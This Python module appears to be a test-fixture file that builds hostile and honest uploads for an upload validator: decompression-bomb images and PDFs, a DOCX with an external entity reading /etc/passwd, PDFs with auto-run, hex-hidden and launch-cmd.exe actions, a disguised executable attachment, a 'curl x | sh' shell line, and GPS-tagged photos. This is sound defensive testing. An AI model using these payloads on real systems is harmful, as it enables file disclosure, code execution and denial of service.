"""Hostile and honest uploads, made here byte by byte: nothing harmful is stored in the repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

GPS = 0x8825


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def photo(*, fmt: str = "JPEG", size: tuple[int, int] = (1200, 900), **how: object) -> bytes:
    """An honest photo: a gradient with its own detail."""
    picture = Image.radial_gradient("L").resize(size).convert("RGB")
    out = io.BytesIO()
    picture.save(out, fmt, **how)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A phone photo lying on its side (orientation 6), with GPS, camera and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(GPS).update({1: "N", 2: (29.0, 1.0, 40.0), 3: "E", 4: (106.0, 39.0, 5.0)})
    return photo(size=(800, 400), exif=exif, comment=b"home of somebody")


def png_of_900_megapixels() -> bytes:
    """30,000 × 30,000 black pixels in about 110 kB."""
    row = zlib.compressobj(9)
    body = b"".join(row.compress(b"\0" * 3751) for _ in range(30_000)) + row.flush()
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_with_lying_header() -> bytes:
    """Claims 100 × 100, carries 200 MB of zeros for it."""
    head = struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 200_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small picture whose compressed comment unfolds to 300 MB."""
    text = b"Comment\0\0" + zlib.compress(b"A" * 300_000_000, 9)
    good = photo(fmt="PNG", size=(60, 60))
    return good[:33] + _chunk(b"zTXt", text) + good[33:]


def jpeg_with_thousand_scans() -> bytes:
    """A progressive JPEG whose scans are repeated to burn time."""
    good = photo(progressive=True, size=(2000, 2000))
    at = good.index(b"\xff\xda")
    end = good.index(b"\xff", at + 20)
    return good[:at] + good[at:end] * 1000 + good[at:]


def archive(names: dict[str, bytes]) -> bytes:
    """A zip with these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, body in names.items():
            box.writestr(name, body)
    return out.getvalue()


def docx() -> bytes:
    """A word-processor file with an external entity."""
    xml = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml})


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x")</script></svg>'
HTML = b"<!doctype html><script>document.cookie</script>"
EXE = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0" + b"\0" * 400
SHELL = b"#!/bin/sh\ncurl x | sh\n"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200


def scan(*, pages: int = 2, size: tuple[int, int] = (800, 1100)) -> bytes:
    """An honest PDF scan."""
    sheets = [Image.radial_gradient("L").resize(size).convert("RGB") for _ in range(pages)]
    out = io.BytesIO()
    sheets[0].save(out, "PDF", save_all=True, append_images=sheets[1:])
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(scan())))
    return writer


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    """Runs a script when opened."""
    writer = _writer()
    script = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert('x')"),
    }
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(script))
    return _written(writer)


def pdf_with_hidden_script() -> bytes:
    """The same, its names written in hexadecimal so that a search of the bytes finds nothing."""
    return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/J#53")


def pdf_with_attachment() -> bytes:
    """Carries an executable."""
    writer = _writer()
    writer.add_attachment("工资单.exe", EXE)
    return _written(writer)


def pdf_with_launch() -> bytes:
    """A click on the page starts a program."""
    writer = _writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 500, 500)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def pdf_locked() -> bytes:
    """Encrypted with a password."""
    writer = _writer()
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def pdf_with_note_and_author() -> bytes:
    """Harmless but talkative: author, title and a link."""
    writer = _writer()
    writer.add_metadata({"/Author": "张三", "/Title": "家庭住址"})
    writer.add_annotation(0, Link(rect=(0, 0, 100, 100), url="http://example.invalid/x"))
    return _written(writer)


def pdf_bomb() -> bytes:
    """One page whose picture claims 60,000 × 60,000 and unfolds to gigabytes."""
    body = zlib.compress(b"\0" * 50_000_000, 9)
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Resources<</XObject<</I 4 0 R>>>>>>",
        b"<<" + head + b"/Length %d>>stream\n" % len(body) + body + b"\nendstream",
    ]
    out, places = b"%PDF-1.5\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"xref\n0 5\n0000000000 65535 f \n" + table + b"trailer<</Size 5/Root 1 0 R>>\n"
    return out + tail + b"startxref\n%d\n%%%%EOF" % len(out)


def pdf_with_looping_pages() -> bytes:
    """A page tree that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R>>"
    )
